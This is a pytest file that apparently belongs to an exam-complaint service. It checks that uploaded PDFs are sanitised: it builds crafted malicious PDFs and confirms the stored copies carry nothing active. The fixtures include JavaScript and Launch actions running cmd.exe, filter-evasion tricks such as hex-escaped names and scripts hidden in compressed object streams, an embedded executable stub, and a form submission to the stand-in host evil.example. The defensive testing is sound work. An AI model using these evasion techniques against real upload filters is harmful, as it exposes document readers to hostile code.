"""Issue 10, point 17: the PDF filter of complaint uploads, attacked the ways the byte search missed.

Each crafted PDF is built here (with pikepdf, or by hand where the trick is in the bytes pikepdf
would normalise); the file stored for it is opened again and searched as a reader would see it.
"""

from __future__ import annotations

import io
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String

from complaints.services import complaint_file
from complaints.uploads import checked_file

from .files import pdf

GROUNDS = "The proctor stopped my exam for ten minutes because my camera froze; I lost that time."
PAYLOAD = b"app.launchURL('https://evil.example/')"
SAFE_ACTIONS = {"/GoTo", "/Named", "/Thread", "/SetOCGState", "/Trans"}
ACTIVE_KEYS = {"/AA", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA", "/Collection"}


def active_parts(content: bytes) -> list[str]:
    """Return everything active a reader would find in the PDF: keys, actions, payloads in any stream."""
    found = []
    with pikepdf.open(io.BytesIO(content)) as document:

        def visit(thing, depth=0):
            if depth > 30:
                return
            if isinstance(thing, pikepdf.Array):
                for element in thing:
                    if (
                        isinstance(element, pikepdf.Array | pikepdf.Dictionary)
                        and not element.is_indirect
                    ):
                        visit(element, depth + 1)
            elif isinstance(thing, pikepdf.Dictionary):
                found.extend(key for key in thing.keys() if key in ACTIVE_KEYS)
                action = thing.get("/S")
                if thing.get("/Type") == Name.Action or {"/A", "/Next", "/OpenAction"} & set(
                    thing.keys()
                ):
                    for value in [
                        thing,
                        thing.get("/A"),
                        thing.get("/Next"),
                        thing.get("/OpenAction"),
                    ]:
                        if (
                            isinstance(value, pikepdf.Dictionary)
                            and "/S" in value
                            and str(value.S) not in SAFE_ACTIONS
                            and len(value.keys()) > 2
                        ):
                            found.append(f"action {value.S}")
                if (
                    action in (Name.Launch, Name.JavaScript, Name.URI, Name.SubmitForm)
                    and len(thing.keys()) > 2
                ):
                    found.append(f"action {action}")
                if thing.get("/Subtype") in (Name.FileAttachment, Name.RichMedia, Name.Screen):
                    found.append(f"annotation {thing.Subtype}")
                for key in thing.keys():
                    value = thing[key]
                    if (
                        isinstance(value, pikepdf.Array | pikepdf.Dictionary)
                        and not value.is_indirect
                    ):
                        visit(value, depth + 1)
                if isinstance(thing, pikepdf.Stream):
                    try:
                        data = thing.read_bytes()
                    except pikepdf.PdfError:
                        data = thing.read_raw_bytes()
                    if PAYLOAD in data or b"MZ\x90\x00" in data:
                        found.append("payload in a stream")

        for thing in [document.trailer, *document.objects]:
            visit(thing)
        for page in document.pages:
            for annotation in page.obj.get("/Annots", []):
                visit(annotation)
    return found


def one_page() -> pikepdf.Pdf:
    document = pikepdf.open(io.BytesIO(pdf(text="A letter from the hospital").read()))
    return document


def saved(document: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def raw_pdf(*bodies: bytes) -> bytes:
    """A PDF written byte by byte, with a correct cross-reference table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref,
    )
    return bytes(out)


def escaped_names() -> bytes:
    """/J#61vaScript is /JavaScript to every reader; the old filter searched the bytes for the plain name."""
    script = b"(" + PAYLOAD + b")"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 "
        + script
        + b" >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
        b"<< /Type /Action /S /#4Cau#6Ech /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
    )


def launch_link() -> bytes:
    document = one_page()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[10, 10, 200, 40],
        Border=[0, 0, 0],
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
    )
    document.pages[0].obj.Annots = document.make_indirect(Array([document.make_indirect(link)]))
    return saved(document)


def script_in_a_compressed_stream() -> bytes:
    """The script is a Flate stream, its action inside a compressed object stream: no name shows in the bytes."""
    document = one_page()
    script = pikepdf.Stream(document, zlib.compress(PAYLOAD))
    script.Filter = Name.FlateDecode
    action = document.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=script))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), action])))
    document.Root.OpenAction = action
    content = saved(
        document, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True
    )
    assert (
        b"JavaScript" not in content and PAYLOAD not in content
    )  # what the byte search could not see
    return content


def embedded_file() -> bytes:
    document = one_page()
    document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
        document, b"MZ\x90\x00" + b"\x00" * 200
    )
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def xfa_form_and_page_actions() -> bytes:
    document = one_page()
    xfa = pikepdf.Stream(document, b"<xdp:xdp><script>" + PAYLOAD + b"</script></xdp:xdp>")
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_indirect(xfa))
    document.pages[0].obj.AA = Dictionary(
        O=Dictionary(S=Name.JavaScript, JS=String(PAYLOAD.decode()))
    )
    return saved(document)


def uri_link_and_submit() -> bytes:
    document = one_page()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[10, 10, 200, 40],
        A=Dictionary(
            S=Name.URI,
            URI=String("https://evil.example/"),
            Next=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        ),
    )
    document.pages[0].obj.Annots = Array([link])
    return saved(document)


CRAFTED = {
    "escaped names (/J#61vaScript, /#4Cau#6Ech)": escaped_names,
    "/Launch in a link": launch_link,
    "script in a compressed stream, in an object stream": script_in_a_compressed_stream,
    "an embedded file": embedded_file,
    "an XFA form and a page-open action": xfa_form_and_page_actions,
    "a URI link chained to a form submission": uri_link_and_submit,
}


@pytest.mark.parametrize("make", CRAFTED.values(), ids=CRAFTED.keys())
def test_a_crafted_pdf_is_stored_without_anything_active(make):
    """Issue 10, point 17: each bypass of the byte search is caught by parsing; the stored copy has nothing active."""
    content = make()
    assert active_parts(content), "the crafted file must carry something active"
    checked = checked_file(SimpleUploadedFile("letter.pdf", content))  # a clean copy, not a refusal
    assert active_parts(checked.content) == []
    assert checked.removed, "what was removed is named (for the audit entry)"
    with pikepdf.open(io.BytesIO(checked.content)) as stored:
        assert len(stored.pages) >= 1  # still a document the committee can read


def test_the_file_a_filed_complaint_keeps_is_the_clean_copy(finished):
    """Issue 10, point 17: re-opening what was stored finds no script; the audit entry says what was removed."""
    from exams.models import AuditEntry

    complaint = complaint_file(
        enrolment_id=finished.enrolment_id,
        candidate=finished.candidate,
        kind="conduct",
        grounds=GROUNDS,
        uploads=[
            SimpleUploadedFile("scan.pdf", escaped_names()),
            SimpleUploadedFile("letter.pdf", script_in_a_compressed_stream()),
        ],
    )
    for stored in complaint.files.all():
        with stored.stored.open("rb") as handle:
            content = handle.read()
        assert active_parts(content) == [] and b"J#61vaScript" not in content
    entry = AuditEntry.objects.get(kind="complaint.filed")
    files = entry.data["files"]
    assert "action:JavaScript" in files[0]["removed"] and "action:Launch" in files[0]["removed"]
    assert files[0]["original_sha256"] != files[0]["sha256"]


def test_an_ordinary_pdf_is_still_accepted(finished):
    complaint = complaint_file(
        enrolment_id=finished.enrolment_id,
        candidate=finished.candidate,
        kind="conduct",
        grounds=GROUNDS,
        uploads=[pdf(text="A letter from the hospital")],
    )
    with (
        complaint.files.get().stored.open("rb") as handle,
        pikepdf.open(io.BytesIO(handle.read())) as stored,
    ):
        assert b"A letter from the hospital" in stored.pages[0].Contents.read_bytes()
